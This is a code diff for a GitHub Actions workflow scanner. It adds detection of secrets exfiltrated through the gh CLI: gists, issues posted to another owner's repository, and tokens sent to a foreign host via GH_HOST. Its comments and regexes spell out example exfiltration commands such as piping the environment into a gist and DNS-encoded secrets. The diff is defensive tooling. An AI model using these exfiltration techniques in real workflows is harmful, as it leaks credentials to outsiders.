@@ -188,6 +188,7 @@ function sentFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, st
   for (const step of job.steps) {
     for (const script of scriptsOf(step)) {
       for (const line of script.split('\n')) {
+        if (line.length <= MAX_COMMAND) for (const file of ghSentFiles(line)) sent.set(file, line.trim().slice(0, 120));
         if (!NETWORK_COMMAND.test(line) || line.length > MAX_COMMAND) continue;
         for (const m of line.matchAll(SENT_FILE)) {
           const file = (m[1] ?? '').replace(/^\.\//, '');
@@ -197,6 +198,34 @@ function sentFiles(job: RuleContext['workflow']['jobs'][number]): Map<string, st
     }
   }
   return sent;
+}
+
+/** `gh gist create|edit` and `gh release upload TAG`, with the words after them (files, options). */
+const GH_FILE_COMMAND = /\bgh\s+(?:gist\s+(?:create|new|edit\s+\S{1,100})|release\s+(?:upload|create)\s+\S{1,100})\s([^;&|\n]{1,500})/g;
+/** `--body-file f`, `-F f` of gh issue/pr create|comment. */
+const GH_BODY_FILE = /\bgh\s+(?:issue|pr)\s+(?:create|comment|edit)\b[^;&|\n]{0,300}?\s(?:--body-file|-F)(?:\s+|=)["']?([\w./${}~-]{1,200})/g;
+/** Options of those commands whose next word is their value, not a file. */
+const GH_VALUED_OPTION = /^(?:-d|--desc|-f|--filename|-R|--repo|-b|--body|-t|--title|-n|--notes|-F|--notes-file|--target|--discussion-category|--notes-start-tag)$/;
+
+/** The files a `gh` command uploads: a gist's files, a release's assets, an issue or comment body file. */
+function ghSentFiles(line: string): string[] {
+  if (!line.includes('gh ')) return [];
+  const files: string[] = [];
+  for (const m of line.matchAll(GH_FILE_COMMAND)) {
+    const words = (m[1] ?? '').trim().split(/\s+/).slice(0, 20);
+    for (let i = 0; i < words.length; i += 1) {
+      const raw = (words[i] ?? '').replace(/^["']|["']$/g, '');
+      // A release asset's display label (`file#label`) is not part of its path.
+      const word = raw.includes('#') ? raw.slice(0, raw.indexOf('#')) : raw;
+      if (word.startsWith('-')) {
+        if (GH_VALUED_OPTION.test(word)) i += 1;
+        continue;
+      }
+      if (word !== '' && word !== '-' && !word.includes('>')) files.push(word.replace(/^\.\//, ''));
+    }
+  }
+  for (const m of line.matchAll(GH_BODY_FILE)) files.push((m[1] ?? '').replace(/^\.\//, ''));
+  return files;
 }
 
 /** A command joined from continuation lines is read up to this length. */
@@ -475,13 +504,16 @@ function knownServiceHost(host: string): boolean {
 
 /**
  * Drops the findings of a secret with no service in its name sent to a host named after the
- * repository or its owner (`tint.acme.dev` for acme/tint): the project's own server.
+ * repository or its owner (`tint.acme.dev` for acme/tint): the project's own server; and of
+ * secrets written with gh into a repository of the same owner.
  */
 export function dropOwnHostSends<T extends { readonly id: string; readonly key: string }>(findings: readonly T[], owner: string, repo: string): T[] {
   const names = [owner, repo].map((n) => n.toLowerCase().replace(/[^a-z0-9]/g, '')).filter((n) => n.length >= 3);
   return findings.filter((f) => {
     if (f.id !== 'gha-secrets-exfiltration') return true;
     const subject = f.key.slice(f.key.indexOf('\u0000', f.key.indexOf('\u0000') + 1) + 1);
+    // Secrets written into a repository of this repository's own owner stay in the family.
+    if (subject.startsWith(OTHER_REPOSITORY_SEND)) return subject.slice(OTHER_REPOSITORY_SEND.length, subject.indexOf('\u0001', OTHER_REPOSITORY_SEND.length)) !== owner.toLowerCase();
     if (!subject.startsWith(ANONYMOUS_SEND)) return true;
     const hosts = subject.slice(ANONYMOUS_SEND.length, subject.indexOf('\u0001', ANONYMOUS_SEND.length)).split(' ');
     return !hosts.every((h) => names.some((n) => h.replace(/[^a-z0-9.]/g, '').split('.').some((label) => label.includes(n))));
@@ -590,6 +622,86 @@ function readsRunnerMemory(ctx: RuleContext, where: string, jobId: string, scrip
   );
 }
 
+/** A `gh` command and what follows it on the line. */
+const GH_COMMAND = /(?:^|[\s;&|(`])gh\s+(api|gist|issue|pr|release|secret|variable|repo|workflow)\b([^;&\n]{0,2000})/;
+/** The repository a gh command is pointed at: `repos/OWNER/REPO/…` of `gh api`, `-R|--repo OWNER/REPO`. */
+const GH_TARGET_REPO = /(?:^|[\s"'/])repos\/([\w.-]{1,100})\/([\w.-]{1,100})|(?:^|\s)(?:-R|--repo)(?:\s+|=)["']?([\w.-]{1,100})\/([\w.-]{1,100})/;
+/** `--hostname H` of a gh command, `GH_HOST=H` before it. */
+const GH_HOSTNAME = /(?:^|\s)--hostname(?:\s+|=)["']?([\w.-]{1,253})|\bGH_HOST=["']?([\w.-]{1,253})/;
+/** The marker of a finding whose target repository's owner the analysis compares with the repository's. */
+export const OTHER_REPOSITORY_SEND = 'other-repository-send\u0001';
+/** The variables a gh command takes its token from. */
+const GH_TOKEN_VARIABLES = ['GH_TOKEN', 'GITHUB_TOKEN', 'GH_ENTERPRISE_TOKEN', 'GITHUB_ENTERPRISE_TOKEN'];
+
+/**
+ * What a `gh` command sends where no curl is needed: secrets put into a gist (`gh gist create`,
+ * public or "secret", readable by whoever has its URL), secrets written as data (`-f`, `--body`)
+ * into another owner's repository (`gh api repos/other/sink/issues -f body=…`, `gh issue create -R
+ * other/sink`), and the token handed to another host (`--hostname`, `GH_HOST`).
+ */
+function ghSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>): void {
+  if (!line.includes('gh ') || line.length > MAX_COMMAND) return;
+  const m = GH_COMMAND.exec(line);
+  if (m === null) return;
+  const kind = ctx.workflow.kind;
+  const sub = m[1] ?? '';
+  const rest = m[2] ?? '';
+  const secretsIn = (text: string): string[] => {
+    const names = new Set(credentialsIn(text, kind));
+    if (dumpsAllSecrets(text)) names.add('toJSON(secrets)');
+    for (const v of variablesIn(text)) {
+      const value = env.get(v);
+      if (value !== undefined) for (const n of credentialsIn(value, kind)) names.add(n);
+      if (value !== undefined && dumpsAllSecrets(value)) names.add('toJSON(secrets)');
+      for (const n of assigned.get(v)?.secrets ?? []) names.add(n);
+    }
+    return [...names];
+  };
+  const push = (severity: 'critical' | 'high', title: string, detail: string, subject: string): void => {
+    ctx.findings.push(makeFinding({ id: 'gha-secrets-exfiltration', severity, title, detail: `${where} ${detail} Fix: remove the step; if it ran, rotate the secrets it could see.`, path: ctx.path, line: lineOf(ctx.content, line.trim()), subject: `${subject}\u0001${jobId}:${line.trim()}` }));
+  };
+  // Secrets into a gist: on the command line, or piped into it (`echo … | gh gist create -`, `env | gh gist create`).
+  if (sub === 'gist' && /^\s+(?:create|new|edit)\b/.test(rest)) {
+    const before = line.slice(0, m.index);
+    const piped = before.includes('|') ? before.split(LIST_SEPARATOR).pop() ?? '' : '';
+    const stages = piped.split('|').filter(emitsWhatItIsGiven);
+    const names = secretsIn(`${rest} ${stages.join(' ')}`);
+    const wholeEnv = stages.some((st) => ENV_DUMP.test(st));
+    if (names.length > 0 || wholeEnv) {
+      const what = wholeEnv ? 'the whole environment (every secret the step can see)' : names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ');
+      push('critical', 'Secrets are put into a gist', `puts ${what} into a gist with gh: a gist, "secret" or not, is readable by anyone with its link, outside this repository, and GitHub masks secrets in logs, not in gists.`, 'gist');
+      return;
+    }
+  }
+  // Secrets written as data into another owner's repository.
+  if (GH_SENDS.test(rest)) {
+    const target = GH_TARGET_REPO.exec(rest);
+    const owner = target?.[1] ?? target?.[3];
+    const repo = target?.[2] ?? target?.[4];
+    const data = rest.replace(CREDENTIAL_OPTION, ' ');
+    const names = secretsIn(data).filter((n) => !GH_TOKEN_VARIABLES.includes(n) || /\$\{?(?:GH_TOKEN|GITHUB_TOKEN)\b|secrets\.GITHUB_TOKEN|github\.token/.test(data));
+    if (owner !== undefined && repo !== undefined && !/[{}$:]/.test(owner) && names.length > 0) {
+      push(
+        'high',
+        `Secrets are written into the repository ${owner}/${repo} with gh`,
+        `writes ${names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ')} as data (a field, a body) into ${owner}/${repo}, a repository of another owner than this one: what is posted there (an issue, a comment, a file) is read by that repository's owner, with no curl for a reviewer to notice.`,
+        `${OTHER_REPOSITORY_SEND}${owner.toLowerCase()}`,
+      );
+      return;
+    }
+  }
+  // The token handed to another host.
+  const hostMatch = GH_HOSTNAME.exec(line) ?? GH_HOSTNAME.exec(rest);
+  const host = (hostMatch?.[1] ?? hostMatch?.[2] ?? env.get('GH_HOST') ?? '').toLowerCase();
+  if (host === '' || host.includes('github') || /[{}$]/.test(host)) return;
+  const token = GH_TOKEN_VARIABLES.find((v) => {
+    const value = env.get(v);
+    return value !== undefined && (credentialsIn(value, kind).length > 0 || /\bgithub\.token\b|\bsecrets\s*\.\s*GITHUB_TOKEN\b/i.test(value));
+  });
+  if (token === undefined) return;
+  push('high', `The GitHub token is handed to ${host} with gh`, `points gh at ${host} (--hostname or GH_HOST) with ${token} set: gh sends that token as its credential to whatever host it is told, and ${host} is not GitHub's.`, `${ANONYMOUS_SEND}${host}`);
+}
+
 /**
  * A secret or the environment written into the name a DNS lookup asks for (`nslookup "$(echo
  * $T | base32).x.tld"`): the lookup carries it to that domain's name server, no HTTP client needed.
@@ -627,6 +739,7 @@ export function secretRules(ctx: RuleContext): void {
         for (const line of script.split('\n')) {
           noteAssignment(line, env, assigned, kind);
           dnsSent(ctx, where, job.id, line, env, assigned);
+          ghSent(ctx, where, job.id, line, env, assigned);
           if (!NETWORK_COMMAND.test(line)) continue;
           const secretVars = [...shellVariablesIn(line)].filter((name) => {
             const value = env.get(name);
